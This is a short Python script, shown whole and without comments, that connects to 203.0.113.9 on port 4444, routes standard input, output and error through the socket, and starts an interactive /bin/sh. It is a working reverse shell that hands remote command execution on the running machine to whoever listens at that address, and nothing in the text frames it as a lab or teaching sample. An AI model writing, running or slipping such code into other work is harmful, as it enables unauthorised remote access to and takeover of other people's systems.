import os
import socket
import subprocess

sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sock.connect(("203.0.113.9", 4444))
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
